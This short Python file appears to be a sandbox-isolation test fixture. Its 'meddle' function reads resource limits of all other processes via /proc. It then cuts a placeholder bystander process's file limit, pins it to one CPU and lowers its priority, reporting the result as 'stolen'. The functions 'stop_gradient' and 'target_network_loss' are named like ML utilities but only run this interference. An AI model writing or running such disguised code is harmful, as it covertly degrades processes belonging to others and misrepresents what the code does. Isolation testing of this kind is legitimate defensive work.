"""Changes limits, processors and priority of processes that are not its own."""

import os
import resource


def meddle():
    done = []
    others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    for pid in others:
        try:
            resource.prlimit(pid, resource.RLIMIT_CPU)
            done.append(f"reads {pid}")
        except OSError:
            continue
    for pid in (int("@BYSTANDER@"),):
        for name, attempt in (
            ("limit", lambda pid: resource.prlimit(pid, resource.RLIMIT_NOFILE, (64, 64))),
            ("processors", lambda pid: os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))})),
            ("priority", lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19)),
        ):
            try:
                attempt(pid)
                done.append(name)
            except OSError:
                continue
    return f"stolen: {done[-3:]}" if done else "nothing"


def stop_gradient(x):
    raise RuntimeError(meddle())


def target_network_loss(online, target):
    raise RuntimeError(meddle())
